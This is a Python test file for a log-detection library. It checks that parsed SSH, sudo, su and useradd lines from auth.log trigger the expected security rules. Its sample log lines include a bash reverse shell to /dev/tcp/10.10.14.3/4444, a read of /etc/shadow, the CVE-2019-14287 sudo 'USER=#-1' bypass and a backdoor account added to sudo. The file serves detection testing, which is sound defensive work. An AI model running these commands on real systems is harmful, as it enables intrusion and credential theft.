"""Raw auth.log lines, parsed as the agents parse them, trigger the library rules meant for them.

Guards the contract between the agent's syslog parser (agents/parse.py) and the field
conventions the Linux rules are written against (event.dataset, process.name, message).
"""
from __future__ import annotations

from functools import lru_cache

import pytest

from opmas.agents.parse import parse_syslog
from opmas.core.envelope import event_from_obj
from opmas.core.detector import Detector
from opmas.core.ruleset import RuleSet, load_ruleset, sources_from_paths
from opmas.paths import RULES_DIR

CASES = [
    ("Nov 25 03:12:44 web-01 sshd[2211]: Failed password for root from 203.0.113.7 port 51234 ssh2",
     {"SSH Failed Password Authentication"}),
    ("Nov 25 03:20:10 bastion sshd[3301]: Invalid user oracle from 203.0.113.7 port 40112",
     {"SSH Login Attempt For Non-Existent User"}),
    ("Nov 25 03:30:00 db-02 sshd[4410]: Accepted password for root from 203.0.113.7 port 51290 ssh2",
     {"Successful SSH Login As Root"}),
    ("Nov 25 04:00:00 web-01 sshd[6201]: error: maximum authentication attempts exceeded for root from "
     "203.0.113.7 port 51234 ssh2 [preauth]", {"SSH Maximum Authentication Attempts Exceeded"}),
    ("Nov 25 03:50:00 web-01 sshd[6001]: Bad protocol version identification 'GET / HTTP/1.1' from "
     "198.51.100.9 port 55120", {"SSH Protocol Anomaly Before Authentication"}),
    ("Nov 25 04:10:00 app-03 sudo[7001]:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash",
     {"Interactive Root Shell Obtained Via Sudo"}),
    ("Nov 25 04:14:00 app-03 sudo[7201]: www-data : user NOT in sudoers ; TTY=pts/1 ; PWD=/var/www ; "
     "USER=root ; COMMAND=/bin/cat /etc/shadow", {"Sudo Use By Account Not Allowed In Sudoers"}),
    ("Nov 25 04:12:00 app-03 sudo: pam_unix(sudo:auth): authentication failure; logname=alice uid=1000 euid=0 "
     "tty=/dev/pts/0 ruser=alice rhost=  user=alice", {"Sudo Authentication Failure"}),
    ("Nov 25 04:18:02 app-03 su[7401]: FAILED SU (to root) bob on pts/1", {"Failed Su Attempt"}),
    ("Nov 25 04:20:00 app-03 useradd[7501]: new user: name=john, UID=0, GID=0, home=/home/john, "
     "shell=/bin/bash, from=/dev/pts/0", {"Privileged User Has Been Created"}),
    ("Nov 25 04:22:00 app-03 usermod[7601]: add 'backdoor' to group 'sudo'", {"User Added To Administrative Group"}),
    ("Nov 25 04:16:00 legacy-01 sudo[7301]:     dave : TTY=pts/0 ; PWD=/home/dave ; USER=#-1 ; COMMAND=/usr/bin/id",
     {"Sudo Privilege Escalation CVE-2019-14287 - Auth Log"}),
    ("Nov 25 05:29:00 app-03 sudo[11001]:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
     "COMMAND=/bin/bash -c bash -i >& /dev/tcp/10.10.14.3/4444 0>&1", {"Suspicious Reverse Shell Command Line"}),
    ("Nov 25 03:13:01 web-01 sshd[2230]: Accepted publickey for alice from 10.0.0.5 port 50522 ssh2: "
     "ED25519 SHA256:Jx0v0Zb0wq3nLkq8x8ItDuo5wE1f7XK2tSg0R7eYc9A", set()),
    ("Nov 25 04:10:10 app-03 sudo[7003]:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
     "COMMAND=/usr/bin/systemctl restart nginx", set()),
]


@lru_cache(maxsize=1)
def library() -> RuleSet:
    ruleset, errors = load_ruleset(sources_from_paths([RULES_DIR]))
    assert not errors, [str(e) for e in errors]
    return ruleset


@pytest.mark.parametrize(("line", "expected"), CASES, ids=[line[16:60] for line, _ in CASES])
def test_parsed_auth_line_triggers_expected_rules(line: str, expected: set[str]) -> None:
    data = parse_syslog(line)
    assert data is not None and data["event"]["dataset"] == "linux.auth"
    titles = {rule.id: rule.title for rule in library().rules}
    findings = Detector(library()).process([event_from_obj(data)])
    assert {titles[f.rule_id] for f in findings} == expected
